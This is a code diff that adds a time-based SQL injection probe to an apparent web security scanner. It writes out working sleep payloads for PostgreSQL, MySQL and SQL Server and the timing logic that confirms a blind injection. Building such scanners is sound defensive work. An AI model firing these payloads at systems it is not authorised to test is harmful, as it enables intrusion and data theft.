@@ -31,6 +31,15 @@ const QUOTED: Quoting = { close: "'", condition: (word, left, right) => `' ${wor
 const PATTERN: Quoting = { close: "%'", condition: (word, left, right) => `%' ${word} '${left}' LIKE '${right}` }
 const NESTED: Quoting = { close: "')", condition: (word, left, right) => `') ${word} ('${left}'='${right}` }
 const COLUMNS = [1, 2, 3, 4]
+/** Milliseconds. Long enough to be no accident of the network, and short enough to hurt nobody. */
+const SLEEP = 700
+const SLOW_PLACES = 6
+/** How PostgreSQL, MySQL with MariaDB, and SQL Server are told to wait, once, however many rows there are. */
+const SLEEPS: readonly ((seconds: number) => string)[] = [
+  (seconds) => ` AND 1=(SELECT 1 FROM pg_sleep(${seconds}))-- -`,
+  (seconds) => ` AND 1=(SELECT 1 FROM (SELECT SLEEP(${seconds})) AS s)-- -`,
+  (seconds) => `; WAITFOR DELAY '0:0:${seconds}'-- -`,
+]
 
 const errorBased: Probe = {
   name: 'sql-injection/error-based',
@@ -78,7 +87,23 @@ const secondOrder: Probe = {
   },
 }
 
-export const probes: readonly Probe[] = [errorBased, boolean, union, secondOrder]
+const timeBased: Probe = {
+  name: 'sql-injection/time-based',
+  risk: 'sql-injection',
+  title: 'The client decides how long a query takes',
+  kind: 'active',
+  async *attack(target) {
+    let yielded = 0
+    for (const place of placesOf(target).slice(0, SLOW_PLACES)) {
+      const outcome = await waits(place)
+      if (outcome === undefined) continue
+      yield outcome
+      if (outcome.verdict === 'proven' || ++yielded === OUTCOMES) return
+    }
+  },
+}
+
+export const probes: readonly Probe[] = [errorBased, boolean, union, secondOrder, timeBased]
 
 async function* overPlaces(
   target: Target,
@@ -133,6 +158,28 @@ async function decides(_target: Target, place: Place): Promise<Outcome | undefin
   return tryOut(
     { attack: () => pair(quoting, word) },
     found(place, `A condition in ${place.field} decides what the query behind this route finds.`),
+  )
+}
+
+/** A query that is told to wait does so, and one that is told not to does not: for routes whose answer is always the same. */
+async function waits(place: Place): Promise<Outcome | undefined> {
+  const honest = await place.send(place.value)
+  if (honest.status === 0 || honest.ms > SLEEP / 2) return undefined
+  const pair = async (
+    { close }: Quoting,
+    sleep: (seconds: number) => string,
+  ): Promise<{ worked: boolean; answer: Answer }> => {
+    const slow = await place.send(`${place.value}${close}${sleep(SLEEP / 1000)}`)
+    if (slow.ms < SLEEP * 0.9) return { worked: false, answer: slow }
+    const quick = await place.send(`${place.value}${close}${sleep(0)}`)
+    return { worked: quick.ms < SLEEP / 2, answer: slow }
+  }
+  const quotings = isNumber(place.value) ? [BARE, QUOTED] : [QUOTED, NESTED]
+  const ways = quotings.flatMap((quoting) => SLEEPS.map((sleep) => ({ quoting, sleep })))
+  const { quoting, sleep } = await firstThat(ways, async (way) => (await pair(way.quoting, way.sleep)).worked)
+  return tryOut(
+    { attack: () => pair(quoting, sleep) },
+    found(place, `A query in ${place.field} waits as long as it says: every answer can be asked for bit by bit.`),
   )
 }
 
